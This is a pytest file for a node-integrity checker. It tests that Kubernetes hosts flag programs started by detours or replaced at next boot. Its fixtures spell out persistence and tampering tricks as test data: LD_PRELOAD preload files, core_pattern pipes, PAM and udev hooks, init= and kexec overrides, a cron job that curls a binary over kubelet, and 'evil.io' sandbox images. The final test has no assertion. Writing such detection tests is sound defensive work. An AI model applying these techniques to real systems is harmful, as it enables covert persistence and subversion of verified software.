"""What starts another program by a detour, or changes at the next start what was checked, is not passed.

What each detour starts is known from the programs themselves: systemd.exec(5), sh(1), execve(2), udev(7),
tmpfiles.d(5); Go's encoding/json (keys in any case); the Container Device Interface.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from tests.node.test_starters import UNIT, Change, codes, link, script, tree_with_another_build
from tests.node.test_startup import CONFIGURATION, CRI, POD, Tree, pod

WEB = "/etc/kubernetes/manifests/web"
GRUB = "/etc/default/grub"
PAUSE = "sha256:" + "c" * 64
TEMPORARY = "/etc/tmpfiles.d/x.conf"


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    return tree_with_another_build(tmp_path)


def service(text: str) -> Change:
    return lambda t: t.write(UNIT, f"[Service]\n{text}\n")


def file(path: str, text: str) -> Change:
    return lambda t: t.write(path, text)


def copy(path: str) -> Change:
    def put(tree: Tree) -> None:
        tree.place(path).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(tree.place("/opt/plain/agent"), tree.place(path))

    return put


def specification(text: str) -> Change:
    return (
        lambda t: t.add(CONFIGURATION, f'[{CRI}.runtimes.x]\nbase_runtime_spec = "/etc/spec.json"\n'),
        lambda t: t.write("/etc/spec.json", text),
    )


def all_of(*changes: Change) -> Change:
    return tuple(one for change in changes for one in (change if isinstance(change, tuple) else (change,)))


def is_data(tree: Tree) -> None:
    tree.place("/opt/plain/agent").chmod(0o644)


def go(text: str, path: str = "/opt/go") -> Change:
    """Start a script."""
    return all_of(lambda t: script(t, path, text), service(f"ExecStart={path}"))


def pause(text: str) -> Change:
    """List an image of the sandbox, and configure containerd."""
    image = {"component": "pause", "reference": "registry.k8s.io/pause:3.4.1"}
    platforms = [{"architecture": "x86_64", "files": [], "manifest": PAUSE}]
    return all_of(lambda t: t.manifest["images"].append(image | {"platforms": platforms}), file(CONFIGURATION, text))


def follow_user(tree: Tree) -> None:
    tree.write("/var/lib/systemd/linger/joe", "")
    tree.write("/etc/passwd", "root:x:0:0::/root:/bin/sh\njoe:x:0:0::/home/joe:/bin/sh\n")
    tree.write("/home/joe/.config/systemd/user/x.service", "[Service]\nExecStart=/opt/plain/agent\n")


def of_user(path: str, text: str) -> Change:
    return all_of(
        file("/var/lib/systemd/linger/joe", ""),
        file("/etc/passwd", "root:x:0:0::/root:/bin/sh\njoe:x:0:0::/home/joe:/bin/sh\n"),
        file(f"/home/joe/{path}", text),
    )


AGENT = "[Service]\nExecStart=/opt/plain/agent\n"
QUADLET = "[Container]\nImage=x\nVolume=/opt/plain/agent:/x\nExec=/x\n"

BUILDS: dict[str, Change] = {
    "a unit of a user's manager alone": of_user(".config/systemd/user.control/x.service", AGENT),
    "a drop-in for all of a user's services": of_user(".config/systemd/user/service.d/x.conf", AGENT),
    "a drop-in of a user's socket": of_user(
        ".config/systemd/user/x.socket.d/x.conf", "[Socket]\nExecStartPre=/opt/plain/agent\n"
    ),
    "a unit of a user whom systemd's records have": all_of(
        file("/var/lib/systemd/linger/eve", ""),
        file("/etc/userdb/eve.user", '{"userName": "eve", "uid": 1000, "homeDirectory": "\\/srv\\/eve"}'),
        file("/srv/eve/.config/systemd/user/x.service", AGENT),
    ),
    "a unit of a user whom a directory has": all_of(
        file("/var/lib/systemd/linger/eve", ""), file("/home/eve/.config/systemd/user/x.service", AGENT)
    ),
    "a user's unit of Podman": of_user(".config/containers/systemd/x.container", QUADLET),
    "root's unit of Podman": file("/root/.config/containers/systemd/a/x.container", QUADLET),
    "a directory that a shell enters": service("ExecStart=/bin/sh -c 'cd /opt/plain && ./agent'"),
    "the unit's directory": service("WorkingDirectory=/opt/plain\nExecStart=/bin/sh -c ./agent"),
    "PATH": service("ExecStart=/bin/sh -c 'PATH=/opt/plain agent'"),
    "a shell's name": all_of(copy("/usr/local/bin/web"), service("ExecStart=/bin/sh -c web")),
    "cron's name": all_of(copy("/usr/bin/web"), file("/etc/cron.d/x", "@reboot root web\n")),
    "a script by its name": all_of(
        lambda t: script(t, "/usr/local/bin/go", "exec /opt/plain/agent\n"), service("ExecStart=/bin/sh -c go")
    ),
    "a script in the unit's directory": all_of(
        lambda t: script(t, "/opt/go/run", "exec /opt/plain/agent\n"),
        service("WorkingDirectory=/opt/go\nExecStart=/bin/sh ./run"),
    ),
    "a script in another root": all_of(
        lambda t: script(t, "/opt/r/go", "exec /opt/web\n"),
        copy("/opt/r/opt/web"),
        service("ExecStart=/usr/sbin/chroot /opt/r /go"),
    ),
    "the unit's root": all_of(
        lambda t: script(t, "/srv/r/go", "exec /opt/web\n"),
        copy("/srv/r/opt/web"),
        service("RootDirectory=/srv/r\nExecStart=/go"),
    ),
    "a link in the unit's root": all_of(
        copy("/srv/r/opt/other"),
        lambda t: link(t, "/srv/r/opt/web", "/opt/other"),
        service("RootDirectory=-/srv/r\nExecStart=/opt/web"),
    ),
    "what the unit mounts": all_of(copy("/srv/x/web"), service("BindPaths=/etc /srv/x:/opt\nExecStart=/opt/web")),
    "what the unit mounts in its root": all_of(
        copy("/srv/x/bin/web"),
        service('RootDirectory=/srv/r\nBindReadOnlyPaths="/srv/x:/usr/local:rbind"\nExecStart=/usr/local/bin/web'),
    ),
    "a link in what the unit mounts": all_of(
        copy("/srv/x/other"),
        lambda t: link(t, "/srv/x/web", "/opt/other"),
        service("BindPaths=/srv/x:/opt\nExecStart=/opt/web"),
    ),
    "what a command mounts": all_of(
        copy("/srv/x/web"), service("ExecStart=/bin/sh -c 'mount --bind /srv/x /opt/y && /opt/y/web'")
    ),
    "what systemd-run mounts": all_of(
        copy("/srv/x/web"), service("ExecStart=/usr/bin/systemd-run -p BindPaths=/srv/x:/opt /opt/web")
    ),
    "a file that systemd opens": service("OpenFile=/opt/plain/agent:x:read-only\nExecStart=/proc/self/fd/3"),
    "a script that systemd opens": all_of(
        lambda t: script(t, "/opt/go", "exec /opt/plain/agent\n"),
        service("OpenFile=/opt/go\nExecStart=/proc/thread-self/fd/3"),
    ),
    "a link to a file that systemd opens": all_of(
        lambda t: link(t, "/opt/x", "../proc/self/fd"), service("OpenFile=/opt/plain/agent\nExecStart=/opt/x/3")
    ),
    "what is standard input": service("StandardInput=file:/opt/plain/agent\nExecStart=/dev/stdin"),
    "what a socket's unit opens": all_of(
        file("/etc/systemd/system/site.socket", "[Socket]\nListenSpecial=/opt/plain/agent\n"),
        service("ExecStart=/usr/bin/env /proc/self/fd/3"),
    ),
    "a directory of credentials": all_of(
        lambda t: script(t, "/opt/c/x", "exec /opt/plain/agent\n"),
        service("LoadCredential=c:/opt/c\nExecStart=/bin/sh %d/c_x"),
    ),
    "cron's directory": file("/etc/cron.d/x", "@reboot root cd /opt/plain && ./agent\n"),
    "another root": all_of(copy("/opt/r/usr/bin/web"), service("ExecStart=/usr/sbin/chroot /opt/r /usr/bin/web")),
    "the root of a process": service("ExecStart=/proc/self/root/opt/plain/agent"),
    "the root of a process, by cron": file("/etc/cron.d/x", "@reboot root /proc/1/root/opt/plain/agent\n"),
    "a path with a blank": all_of(copy("/opt/a b/agent"), service('ExecStart="/opt/a b/agent"')),
    "standard input": service("ExecStart=/bin/sh\nStandardInput=data\nStandardInputText=exec /opt/plain/agent"),
    "encoded standard input": service(
        "ExecStart=/bin/sh\nStandardInput=data\nStandardInputData=ZXhlYyAvb3B0L3BsYWluL2FnZW50Cg=="
    ),
    "a file as standard input": all_of(
        file("/opt/in", "exec /opt/plain/agent\n"), service("ExecStart=/bin/sh\nStandardInput=file:/opt/in")
    ),
    "a script with a null byte": all_of(
        lambda t: script(t, "/opt/go", "exec /opt/plain/agent\n\0"), service("ExecStart=/opt/go")
    ),
    "the interpreter of a script": all_of(
        file("/opt/go", "#!/opt/plain/agent\n"), lambda t: t.place("/opt/go").chmod(0o755), service("ExecStart=/opt/go")
    ),
    "the loader": all_of(is_data, service("ExecStart=/lib64/ld-linux-x86-64.so.2 /opt/plain/agent")),
    "a copy": all_of(is_data, service("ExecStart=/bin/sh -c 'install /opt/plain/agent /run/a; /run/a'")),
    "a script among logs": all_of(
        file("/var/log/x.log", "/opt/plain/agent\n"), file("/etc/cron.d/x", "@reboot root sh /var/log/x.log\n")
    ),
    "at": lambda t: script(t, "/var/spool/at/a00001", "/opt/plain/agent\n"),
    "cloud-init's scripts": lambda t: script(t, "/var/lib/cloud/scripts/per-boot/x", "/opt/plain/agent\n"),
    "cloud-init": file("/etc/cloud/cloud.cfg.d/9.cfg", "bootcmd:\n - [/opt/plain/agent]\n"),
    "the network's early scripts": lambda t: script(
        t, "/etc/NetworkManager/dispatcher.d/pre-up.d/x", "/opt/plain/agent\n"
    ),
    "a plugin of auditd": file("/etc/audit/plugins.d/x.conf", "active = yes\npath = /opt/plain/agent\n"),
    "an output of rsyslog": file("/etc/rsyslog.d/x.conf", 'action(type="omprog" binary="/opt/plain/agent")\n'),
    "the kernel's core dumps": file("/etc/sysctl.d/x.conf", "kernel.core_pattern=|/opt/plain/agent\n"),
    "logrotate": file("/etc/logrotate.conf", "postrotate\n/opt/plain/agent\nendscript\n"),
    "PAM": file("/etc/pam.d/crond", "session optional pam_exec.so /opt/plain/agent\n"),
    "tuned": lambda t: script(t, "/etc/tuned/x/script.sh", "/opt/plain/agent\n"),
    "udev's own directory": all_of(
        file("/etc/udev/rules.d/9.rules", 'ACTION=="add", RUN+="agent"\n'),
        lambda t: link(t, "/usr/lib/udev/agent", "/opt/plain/agent"),
    ),
    "the bus' own directory": file(
        "/usr/lib/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/opt/plain/agent\n"
    ),
    "a directory of the bus' configuration": all_of(
        file("/etc/dbus-1/system.d/x.conf", "<busconfig><servicedir>/opt/d</servicedir></busconfig>"),
        file("/opt/d/x.service", "[D-BUS Service]\nExec=/opt/plain/agent\n"),
    ),
    "the modules of EL7": lambda t: script(t, "/etc/sysconfig/modules/x.modules", "/opt/plain/agent\n"),
    "a script in systemd's place": lambda t: script(t, "/sbin/init", "/opt/plain/agent &\nexec /lib/systemd/systemd\n"),
    "a user without a session": follow_user,
    "a drop-in of users' units": file(
        "/etc/systemd/user/x.service.d/a.conf", "[Service]\nExecStart=/opt/plain/agent\n"
    ),
    "a link among users' wants": all_of(
        file("/opt/x.service", "[Service]\nExecStart=/opt/plain/agent\n"),
        lambda t: link(t, "/etc/systemd/user/default.target.wants/x.service", "/opt/x.service"),
    ),
    "parts of a path": go("A=opt\nB='plain'\nexec /$A/${B}/agent\n"),
    "a part that a loop assigns": go("for one in a plain b; do /opt/$one/agent & done\n"),
    "quotes within a path": go("exec /opt/pl''ain/agent\n"),
    "a backslash within a path": go("exec /opt/pl\\ain/agent\n"),
    "a default": go("exec ${AGENT:-/opt/plain/agent} --v=2\n"),
    "the script's own directory": go('exec "$(dirname "$(readlink -f "$0")")/agent"\n', "/opt/plain/go"),
    "the script's own directory in a variable": go("D=${0%/*}\nexec $D/agent\n", "/opt/plain/go"),
    "a file as a command": all_of(file("/opt/f", "/opt/pl''ain/agent"), go('sh -c "$(cat /opt/f)"\n')),
    "a part of a path that cron assigns": file("/etc/cron.d/x", "A=plain\n@reboot root /opt/$A/agent\n"),
    "quotes in a boot script": lambda t: script(t, "/etc/rc.d/rc.local", "/opt/pl''ain/agent &\n"),
    "every login": file("/etc/profile.d/x.sh", "/opt/plain/agent &\n"),
    "a file system's program": file("/etc/fstab", "/opt/plain/agent#x /mnt fuse defaults 0 0\n"),
    "a file system's program by its type": file("/etc/fstab", "x /mnt fuse./opt/plain/agent defaults 0 0\n"),
    "a mount unit's program": file(
        "/etc/systemd/system/mnt.mount", "[Mount]\nWhat=/opt/plain/agent#x\nWhere=/mnt\nType=fuse\n"
    ),
    "a kubeconfig's credentials": file("/etc/kubernetes/x.conf", "exec:\n  command: /opt/plain/agent\n"),
}


@pytest.mark.parametrize("how", BUILDS)
def test_another_build_that_is_started_by_a_detour_fails(how: str, tree: Tree) -> None:
    assert codes(BUILDS[how], tree) == {("fail", "other-build")}


def overlay(options: str) -> Change:
    return lambda t: t.add(
        CONFIGURATION, f'[plugins."io.containerd.snapshotter.v1.overlayfs"]\nmount_options = ["{options}"]\n'
    )


def variable(name: str, value: str) -> str:
    return f"    env:\n    - name: {name}\n      value: {value}\n"


def boot(text: str) -> Change:
    return lambda t: script(t, "/etc/rc.d/rc.local", text)


# Kubernetes' "Define Dependent Environment Variables".
DEPENDENT = variable("A", "fips140=off") + "    - name: GODEBUG\n      value: x=1,$(A)\n"
ELSEWHERE = (
    "    env:\n    - name: A\n      valueFrom: {fieldRef: {fieldPath: metadata.name}}\n"
    "    - name: GODEBUG\n      value: fips140=$(A)\n"
)
SHIMS = '[plugins."io.containerd.shim.v1.manager"]\nenv = ["A=b", "LD_PRELOAD=/opt/x.so"]\n'


# Kubernetes' and etcd's documentation of their configuration files.
SETTINGS = {
    "a kubelet": "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\n",
    "a kubelet, as JSON": '{"apiVersion":"kubelet.config.k8s.io/v1beta1","kind":"KubeletConfiguration"}',
    "containerd": 'version = 2\n[plugins."io.containerd.grpc.v1.cri"]\n',
}


def given(settings: str, command: str) -> Change:
    return all_of(file("/opt/site.conf", SETTINGS[settings]), service(f"ExecStart={command}"))


CONFIGURED: dict[str, Change] = {
    "a kubelet's configuration": given("a kubelet", "/usr/bin/web --config=/opt/site.conf --v=2"),
    "JSON": given("a kubelet, as JSON", "/usr/bin/web --v=2 --config /opt/site.conf"),
    "containerd's configuration": given("containerd", "/usr/bin/web -c /opt/site.conf"),
    "through a shell": given("containerd", "/bin/sh -c 'exec /usr/bin/web --config /opt/site.conf'"),
    "a subcommand": given("a kubelet", "/bin/sh -c '/usr/bin/web kubelet --config /opt/site.conf'"),
    "by PATH": given("a kubelet", "/bin/sh -c 'web --config /opt/site.conf'"),
    "etcd's variables": all_of(
        lambda t: t.manifest["files"].append(dict(t.manifest["files"][0], path="/usr/bin/etcd", component="etcd")),
        service("Environment=ETCD_LISTEN_CLIENT_URLS=https://10.0.0.1:2379\nExecStart=/usr/bin/web"),
    ),
    "through env": given("a kubelet", "/usr/bin/env A=b /usr/bin/web --config /opt/site.conf"),
    "by cron": all_of(
        file("/opt/site.conf", SETTINGS["a kubelet"]),
        file("/etc/cron.d/x", "@reboot root /usr/bin/web --config /opt/site.conf\n"),
    ),
}


@pytest.mark.parametrize("how", CONFIGURED)
def test_a_program_with_a_components_configuration_in_a_file_of_its_own_is_unknown(how: str, tree: Tree) -> None:
    # It has no Go build info.
    shutil.copy("/usr/bin/id", tree.place("/usr/bin/web"))

    assert codes(CONFIGURED[how], tree) == {("unknown", "wrapped")}


@pytest.mark.parametrize(
    "text",
    [
        "ExecStart=/usr/bin/web --config=/opt/other.conf",
        "ExecStart=/usr/bin/cat /opt/site.conf",
        "ExecStart=/usr/bin/cp -f /opt/site.conf /opt/copy.conf",
        "ExecStart=/bin/sh -c 'kubeadm join --config /opt/site.conf'",
        "ExecStart=/bin/sh -c 'sudo /usr/bin/kubeadm join --config /opt/site.conf'",
        "ExecStart=/usr/bin/kubeadm join --config /opt/site.conf",
        "ExecStart=/bin/sh -c 'nvidia-ctk runtime configure --config=/opt/site.conf'",
    ],
)
def test_a_program_that_is_no_component_passes_with_its_configuration(text: str, tree: Tree) -> None:
    shutil.copy("/usr/bin/id", tree.place("/usr/bin/web"))
    other = file("/opt/other.conf", "kind: SomeConfiguration\nlisten: https://x/listen-client-urls:1\n")

    assert codes(all_of(file("/opt/site.conf", SETTINGS["a kubelet"]), other, service(text)), tree) == set()


DOUBTS: dict[str, tuple[str, Change]] = {
    "a preload file of more than 64 KiB": ("preload", file("/etc/ld.so.preload", " " * 70_000 + "/opt/x.so\n")),
    "a variable of a pod that another one from elsewhere makes": ("environment", file(POD, pod(more=ELSEWHERE))),
    "a unit's output over the preload file": (
        "replaced-at-start",
        service("ExecStart=/usr/bin/echo /opt/x.so\nStandardOutput=truncate:/etc/ld.so.preload"),
    ),
    "a unit's errors over a program": (
        "replaced-at-start",
        service("ExecStart=/usr/bin/cat /opt/x\nStandardError=file:/usr/bin/kubelet"),
    ),
    "variables that a script gives systemd": (
        "environment",
        boot("export LD_PRELOAD=/opt/x.so\nsystemctl import-environment LD_PRELOAD\n"),
    ),
    "a unit that a script enables by its path": ("environment", boot("systemctl --now enable /opt/kubelet.service\n")),
    "a variable of anacron": (
        "environment",
        file("/etc/anacrontab", "LD_PRELOAD=/opt/x.so\n1 5 certificates kubeadm certs renew all\n"),
    ),
    "the kubelet's settings from the API server": (
        "configuration",
        lambda t: t.drop_in(
            'Environment="KUBELET_EXTRA_ARGS=--container-runtime=remote --dynamic-config-dir=/opt/d"\nEnvironmentFile='
        ),
    ),
    "another init": ("kernel-command-line", file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 init=/opt/plain/init"\n')),
    "another init of a boot entry": (
        "kernel-command-line",
        file("/boot/loader/entries/a.conf", "title x\noptions root=/dev/a fips=1 init=/opt/i\n"),
    ),
    "another init of a menu that another one takes in": (
        "kernel-command-line",
        all_of(
            file("/boot/grub2/grub.cfg", "source $prefix/site.cfg\n"),
            file("/boot/grub2/site.cfg", "linux /v root=/dev/a fips=1 init=/opt/i\n"),
        ),
    ),
    "a unit of the command line": ("kernel-command-line", file(GRUB, 'GRUB_CMDLINE_LINUX="systemd.run=/opt/i"\n')),
    "a unit among credentials": (
        "kernel-command-line",
        file(GRUB, 'GRUB_CMDLINE_LINUX="systemd.set_credential=systemd.extra-unit.x.service:abc"\n'),
    ),
    "systemd's search path": ("environment", file(GRUB, 'GRUB_CMDLINE_LINUX="SYSTEMD_UNIT_PATH=/opt/units"\n')),
    "systemd's search path in its settings": (
        "environment",
        file("/etc/systemd/system.conf", "[Manager]\nManagerEnvironment=SYSTEMD_UNIT_PATH=/opt/units\n"),
    ),
    "a static pod's PATH": ("environment", file(POD, pod(more=variable("PATH", "/data:/usr/local/bin")))),
    "devices of a static pod": (
        "every-container",
        file(POD, pod().replace("\nspec", "\n  annotations:\n    cdi.k8s.io/x: v.com/c=d\nspec")),
    ),
    "a mirror's sandbox": ("mirrored-image", pause('[plugins.cri]\nsandbox_image = "m.example/pause:3.4.1"\n')),
    "a component's container by a unit of Podman": (
        "other-root",
        file("/etc/containers/systemd/a/x.container", "[Container]\nImage=quay.io/o/kube-apiserver:1\n"),
    ),
    "a component's options by a unit of Podman": (
        "other-root",
        file("/etc/containers/systemd/x.container", "[Container]\nImage=o/x\nExec=/opt/s --etcd-servers=x\n"),
    ),
    "a component's pod by a unit of Podman": (
        "other-root",
        all_of(
            file("/opt/x.yaml", "image: quay.io/o/etcd@sha256:1\n"),
            file("/etc/containers/systemd/x.kube", "[Kube]\nYaml=/opt/x.yaml\n"),
        ),
    ),
    "cron's container of a component": ("other-root", file("/etc/cron.d/x", "@reboot root podman run o/etcd:1\n")),
    "the kubelet's own kubeconfig": (
        "wrapped",
        service("ExecStart=/opt/plain/plain --kubeconfig=/etc/kubernetes/kubelet.conf"),
    ),
    "an API server's options": ("wrapped", service("ExecStart=/opt/plain/plain --etcd-servers=https://127.0.0.1")),
    "a root that is not known": ("other-root", service("RootDirectory=/srv/%H\nExecStart=/opt/web")),
    "another container runtime": (
        "other-runtime",
        file("/etc/sysconfig/kubelet", "KUBELET_EXTRA_ARGS=--container-runtime=docker\n"),
    ),
    "a file system over the programs": ("mounted-over", file("/etc/fstab", "x.sh#/opt /usr/bin fuse defaults 0 0\n")),
    "a script of a component that starts a variable": (
        "wrapped",
        all_of(
            lambda t: script(t, "/usr/bin/go", "exec /opt/$X/agent\n"), lambda t: t.drop_in("ExecStartPre=/usr/bin/go")
        ),
    ),
    "a script of a component that starts a substitution": (
        "wrapped",
        all_of(lambda t: script(t, "/usr/bin/go", "A=$(x)\n$A\n"), lambda t: t.drop_in("ExecStartPre=/usr/bin/go")),
    ),
    "a kubelet's option with underscores": (
        "wrapped",
        service("ExecStart=/opt/plain/plain --container_runtime_endpoint=unix:///run/containerd/containerd.sock"),
    ),
    "containerd's configuration": (
        "wrapped",
        service("ExecStart=/opt/plain/plain --config /etc/containerd/config.toml"),
    ),
    "hooks in capitals": ("every-container", specification('{"HOOKS": {"createRuntime": [{"path": "/opt/x"}]}}')),
    "hooks that are there twice": (
        "configuration",
        specification('{"hooks": {"createRuntime": [{"path": "/opt/x"}]}, "hooks": {}}'),
    ),
    "an overlay of another directory": ("configuration", overlay("lowerdir=/opt/x")),
    "a listed program in another root": ("other-root", service("ExecStart=/usr/sbin/chroot /opt/r /usr/bin/kubelet")),
    "a listed program of other mounts": (
        "other-root",
        service("ExecStart=/usr/bin/nsenter -t 1 -r/opt/r /usr/bin/kubelet"),
    ),
    "a container of runc": ("other-root", service("ExecStart=/usr/bin/runc run -b /opt/bundle x")),
    "a container of ctr by a shell": (
        "other-root",
        service("ExecStart=/bin/sh -c 'ctr -n k8s.io run --net-host docker.io/o/api:1 api'"),
    ),
    "a component's container of Podman": (
        "other-root",
        service("ExecStart=/usr/bin/podman run --net=host quay.io/o/kube-apiserver:1"),
    ),
    "the unit's directory by the kernel": (
        "wrapped",
        service("WorkingDirectory=/opt/plain\nExecStart=/proc/self/cwd/agent"),
    ),
    "what another process passes": ("wrapped", service("ExecStart=/dev/fd/3")),
    "a pattern of paths": ("wrapped", service("ExecStart=/bin/sh -c '/opt/plai?/agent'")),
    "text into a program": ("replaced-at-start", file(TEMPORARY, "w /usr/bin/kubele? - - - - #!/opt/plain/agent\n")),
    "a preload file at the next start": ("replaced-at-start", file(TEMPORARY, "f /etc/ld.so.preload - - - - /o.so\n")),
    "a static pod at the next start": (
        "replaced-at-start",
        file(TEMPORARY, "L /etc/kubernetes/manifests/x.yaml - - - - /opt/x.yaml\n"),
    ),
    "a runtime at the next start": (
        "replaced-at-start",
        file(TEMPORARY, "L+ /opt/containerd/bin/runc - - - - /opt/plain/runc\n"),
    ),
    "a configuration by a bind mount": ("mounted-over", file("/etc/fstab", "/opt/x /etc/containerd none bind 0 0\n")),
    "all configurations by an overlay": (
        "mounted-over",
        file("/etc/fstab", "overlay /etc overlay lowerdir=/opt:/etc 0 0\n"),
    ),
    "units on a disk": ("mounted-over", file("/etc/fstab", "/dev/x /etc/systemd/system ext4 defaults 0 0\n")),
    "a kubelet's configuration below a directory": (
        "configuration",
        lambda t: t.drop_in("WorkingDirectory=/srv\nExecStart=\nExecStart=/usr/bin/kubelet --config=k.yaml"),
    ),
    "a kubelet's options on the kernel's command line": (
        "environment",
        all_of(
            file(
                "/boot/loader/entries/a.conf", "options fips=1 systemd.setenv=KUBELET_EXTRA_ARGS=--config-dir=/opt/d\n"
            )
        ),
    ),
    "a kubelet's options of the first process": (
        "environment",
        lambda t: t.drop_in("PassEnvironment=KUBELET_EXTRA_ARGS OTHER"),
    ),
    "a system extension of the administrator": ("extension", file("/usr/local/lib/extensions/x.raw", "x")),
    "another socket behind a link and two dots": (
        "other-runtime",
        file(
            "/etc/sysconfig/kubelet",
            "KUBELET_EXTRA_ARGS=--container-runtime-endpoint=/var/l/../run/containerd/containerd.sock\n",
        ),
    ),
    "another init behind a link and two dots": (
        "kernel-command-line",
        file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 init=/usr/l/../lib/systemd/systemd"\n'),
    ),
    "a pattern of the loader's directories": (
        "library-path",
        file("/etc/ld.so.conf", "include /opt/*/ld.conf\n"),
    ),
    "more directories for libraries than are read": (
        "library-path",
        file("/etc/ld.so.conf", "".join(f"/opt/{number}\n" for number in range(200))),
    ),
    "PATH of everything": ("environment", file(GRUB, 'GRUB_CMDLINE_LINUX="systemd.setenv=PATH=/opt/plain"\n')),
    "a mount over the programs": (
        "replaced-at-start",
        service("ExecStart=/bin/mount --bind /opt/plain /usr/bin"),
    ),
    "a copy over the programs": ("replaced-at-start", service("ExecStart=/bin/sh -c 'cp /opt/plain/* /usr/bin/ 2>&1'")),
    "a written preload file": (
        "replaced-at-start",
        service("ExecStart=/bin/sh -c 'echo /opt/x.so > /etc/ld.so.preload'"),
    ),
    "an archive over everything": ("replaced-at-start", service("ExecStart=/usr/bin/tar -xf /opt/x.tar -C /")),
    "an archive over a directory": ("replaced-at-start", boot("tar -xf /opt/x.tar -C/usr\n")),
    "a zip archive": ("replaced-at-start", boot("unzip -o /opt/x.zip -d /usr/bin\n")),
    "a copy over everything": ("replaced-at-start", boot("rsync -a /opt/r/ /\n")),
    "a mount by systemd": ("replaced-at-start", service("ExecStart=/usr/bin/systemd-mount --bind /opt/x /usr/bin")),
    "an image that is mounted": ("replaced-at-start", boot("systemd-dissect --mount /opt/x.raw /usr/bin\n")),
    "another package": ("replaced-at-start", service("ExecStart=/usr/bin/dnf install -y kubelet-1.21.4-0")),
    "a package from a file": ("replaced-at-start", boot("rpm -Uvh --force /opt/containerd-1.4.9-1.el8.x86_64.rpm\n")),
    "another kernel": ("replaced-at-start", boot("kexec -l /opt/vmlinuz --command-line=fips=0 && kexec -e\n")),
    "units of an image": ("replaced-at-start", service("ExecStart=/usr/bin/portablectl attach --now /opt/x.raw")),
    "a program that cron downloads": (
        "replaced-at-start",
        file("/etc/cron.d/x", "@reboot root curl http://x/k -o /usr/bin/kubelet\n"),
    ),
    "a variable of all units": (
        "environment",
        service("ExecStart=/usr/bin/systemctl set-environment LD_PRELOAD=/opt/x.so"),
    ),
    "a variable of a shell's command": (
        "environment",
        service("ExecStart=/bin/sh -c 'LD_PRELOAD=/x.so exec /usr/bin/kubelet'"),
    ),
    "cron's other root": (
        "other-root",
        file("/etc/cron.d/x", "@reboot root chroot /opt/r /usr/bin/kubelet\n"),
    ),
    "cron's container": ("other-root", file("/etc/cron.d/x", "@reboot root ctr run docker.io/o/api:1 x\n")),
    "a large script without a first line": (
        "too-large",
        all_of(file("/opt/go", "#" * 300_000 + "\nexec /opt/plain/agent\n"), service("ExecStart=/bin/sh -e /opt/go")),
    ),
}


@pytest.mark.parametrize("how", DOUBTS)
def test_what_may_start_something_else_is_unknown(how: str, tree: Tree) -> None:
    code, change = DOUBTS[how]

    assert codes(change, tree) == {("unknown", code)}


FAILURES: dict[str, tuple[str, Change]] = {
    "a kubelet behind a link and two dots": (
        "other-program",
        all_of(
            lambda t: link(t, "/usr/l", "/opt/x/y"),
            lambda t: t.place("/opt/x/y").mkdir(parents=True),
            lambda t: link(t, "/opt/x/bin", "/opt/plain"),
            lambda t: t.drop_in("ExecStart=\nExecStart=/usr/l/../bin/kubelet"),
        ),
    ),
    "a unit behind a link and two dots": (
        "other-build",
        all_of(
            lambda t: t.write("/usr/lib/systemd/system/good.service", "[Service]\nExecStart=/usr/bin/true\n"),
            lambda t: t.write("/opt/x/system/good.service", "[Service]\nExecStart=/opt/plain/agent\n"),
            lambda t: link(t, "/usr/lib/systemd/l", "/opt/x/y"),
            lambda t: t.place("/opt/x/y").mkdir(parents=True),
            lambda t: link(t, "/etc/systemd/system/site.service", "/usr/lib/systemd/l/../system/good.service"),
        ),
    ),
    "a static pod's program behind a link of a volume and two dots": (
        "other-program",
        file(POD, pod(command="[/data/l/../../usr/local/bin/kube-apiserver, --etcd-servers=x]", mount="/data")),
    ),
    "another sandbox": (
        "unlisted-image",
        pause('[plugins."io.containerd.grpc.v1.cri"]\nsandbox_image = "registry.k8s.io/pause:9"\n'),
    ),
    "another sandbox, in version 1": ("unlisted-image", pause('[plugins.cri]\nsandbox_image = "evil.io/p:9"\n')),
    "another sandbox, in version 3": (
        "unlisted-image",
        pause('version = 3\n[plugins."io.containerd.cri.v1.images".pinned_images]\nsandbox = "evil.io/p:9"\n'),
    ),
    "etcd's option with one hyphen": (
        "unlisted-image",
        file(WEB, pod(name="web", image="o:1", command="[/opt/s, -listen-peer-urls=x]")),
    ),
    "a volume of the local libraries": ("mounted-over", file(POD, pod(mount="/usr/local/lib64"))),
    "a C library for some processors": ("library-path", file("/usr/lib64/glibc-hwcaps/x86-64-v2/libc.so.6", "x")),
    "a C library for some processors, as glibc 2.17 finds it": (
        "library-path",
        file("/lib64/tls/haswell/x86_64/libpthread.so.0", "x"),
    ),
    "FIPS switched off by a word": ("environment", lambda t: t.drop_in("Environment=GOLANG_FIPS=no", "containerd")),
    "a variable of the first process": (
        "environment",
        file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 LD_PRELOAD=/opt/x.so"\n'),
    ),
    "a variable of a pod that another one makes": ("environment", file(POD, pod(more=DEPENDENT))),
    "a variable of the shims, and so of runc": ("environment", lambda t: t.add(CONFIGURATION, SHIMS)),
    "variables in capitals": ("environment", specification('{"Process": {"Env": ["LD_PRELOAD=/x.so"]}}')),
    "an API server's option with underscores": (
        "unlisted-image",
        file(WEB, pod(name="web", image="o:1", command="[/opt/s, --etcd_servers=x]")),
    ),
    "an API server's option in a variable": (
        "unlisted-image",
        file(WEB, pod(name="web", image="o:1", command="[/opt/s, $(O)]", more=variable("O", "--etcd-servers=x"))),
    ),
    "a volume that PATH has before the program": ("mounted-over", file(POD, pod(mount="/usr/local/sbin"))),
    "a C library that a file elsewhere names": (
        "library-path",
        all_of(
            file("/etc/ld.so.conf", "include /opt/ld/*.conf\n"),
            file("/opt/ld/a.conf", "/opt/lib\n"),
            file("/opt/lib/libc.so.6", "x"),
        ),
    ),
    "a C library that the second pattern of a line leads to": (
        "library-path",
        all_of(
            file("/etc/ld.so.conf", "include ld.so.conf.d/*.conf /opt/ld/*.conf\n"),
            file("/opt/ld/a.conf", "/opt/lib\n"),
            file("/opt/lib/libc.so.6", "x"),
        ),
    ),
    "a C library below the operating system's": (
        "library-path",
        file("/etc/ld.so.cache", "x\0/usr/lib64/other/libc.so.6\0"),
    ),
}


@pytest.mark.parametrize("how", FAILURES)
def test_what_is_not_the_releases_fails(how: str, tree: Tree) -> None:
    code, change = FAILURES[how]

